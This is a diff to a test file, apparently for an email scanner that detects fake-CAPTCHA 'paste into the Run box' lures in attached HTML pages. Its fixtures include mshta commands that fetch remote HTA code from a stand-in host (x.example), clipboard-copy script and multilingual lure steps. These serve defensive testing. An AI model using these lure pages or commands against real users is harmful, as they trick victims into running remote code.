@@ -49,7 +49,7 @@ describe('commands to paste', () => {
     assert.equal((await run(mailWithDocuments(head, 'Anbei.', ['Rechnung.htm', page('var t=document.getElementById("c"); t.select(); document.execCommand("copy"); // mshta https://x.example/v.hta', steps.replace('Pulse la tecla', 'Drücken Sie die'))]))).length, 1, 'execCommand copy, mshta');
     // a page that copies a tracking number, or names PowerShell without copying it, is no lure
     assert.deepEqual(await run(mailWithDocuments(head, 'Anbei.', ['Sendung.html', page('navigator.clipboard.writeText("JJD0001234567");', '<li>Ctrl + V in das Suchfeld</li>')])), []);
-    assert.deepEqual(await run(mailWithDocuments(head, 'Anbei.', ['Anleitung.html', page('/* powershell */', steps)])), []);
+    assert.deepEqual(await run(mailWithDocuments(head, 'Anbei.', ['Anleitung.html', page('/* powershell */', '<li>Ctrl + V in das Suchfeld</li>')])), []);
   });
 
   it('the fake CAPTCHA whose command waits in a hidden text box, the steps naming the Run box and the paste (the thirty-second held-out pair)', async () => {
@@ -60,8 +60,26 @@ describe('commands to paste', () => {
     assert.deepEqual(await run(mailWithDocuments(head, 'Please open it in your browser.', ['Remittance.html', page('cmd /c start /min mshta https://x.example/r # I am not a robot', steps)])), [
       'PASTE_COMMAND_LURE: a page holds a command for the Run box ("cmd /c"…) in the attached page Remittance.html, to paste at "windows + r"',
     ]);
-    // the Run box to type a program's name into, or a text box without a command, is no lure
-    assert.deepEqual(await run(mailWithDocuments(head, 'Anleitung.', ['Hilfe.html', page('\\\\fileserver\\scans', steps)])), []);
+    // the Run box to type a program's name into, or a help page's path to paste there, is no lure
+    const help = Buffer.from(`<html><body><h2>Scans abholen</h2><ol>${steps}</ol><textarea>\\\\fileserver\\scans</textarea></body></html>`);
+    assert.deepEqual(await run(mailWithDocuments(head, 'Anleitung.', ['Hilfe.html', help])), []);
     assert.deepEqual(await run(mailWithDocuments(head, 'Guide.', ['Help.html', page('cmd /c ipconfig', '<li>Press Windows + R and type mstsc</li>')])), []);
+  });
+
+  it('the fake CAPTCHA with no command in it, which its kit fetches when the page opens: a human verification that names the Run box and the paste (the forty-second held-out pair)', async () => {
+    const head = 'From: Daniel Harper <purchasing@marine.example>\r\nTo: lena@example.com\r\nSubject: RFQ 26-1187\r\n';
+    const page = (title: string, steps: string): Buffer => Buffer.from(`<html><body><h2>${title}</h2><div class="cb"><span class="box"></span> reCAPTCHA</div><ol>${steps}</ol></body></html>`);
+    const steps = '<li>Press <kbd>Windows</kbd> + <kbd>R</kbd></li><li>Press <kbd>CTRL</kbd> + <kbd>V</kbd></li><li>Press <kbd>Enter</kbd></li>';
+    assert.deepEqual(await run(mailWithDocuments(head, 'The document opens in your browser.', ['RFQ_26-1187.html', page('Verify you are human', steps)])), [
+      'PASTE_COMMAND_LURE: a page posing as a human verification tells to open the Run box and paste in the attached page RFQ_26-1187.html, to paste at "windows + r"',
+    ]);
+    for (const [title, localSteps] of [
+      ['Ich bin kein Roboter', '<li>Drücken Sie Windows + R</li><li>Drücken Sie Strg + V</li>'],
+      ['Я не робот', '<li>Нажмите клавишу Windows + R</li><li>Нажмите Ctrl + V</li>'],
+      ['Nie jestem robotem', '<li>Naciśnij klawisz Windows + R</li><li>Naciśnij Ctrl + V</li>'],
+    ]) assert.equal((await run(mailWithDocuments(head, 'Anbei.', ['Dokument.html', page(title, localSteps)]))).length, 1, title);
+    // a real form's CAPTCHA without the Run box, or the Run box without a CAPTCHA, is no lure
+    assert.deepEqual(await run(mailWithDocuments(head, 'Form.', ['Kontakt.html', page('Verify you are human', '<li>Copy your ticket number (Ctrl + V into the field)</li>')])), []);
+    assert.deepEqual(await run(mailWithDocuments(head, 'Guide.', ['Help.html', Buffer.from(`<html><body><ol>${steps}</ol></body></html>`)])), []);
   });
 });
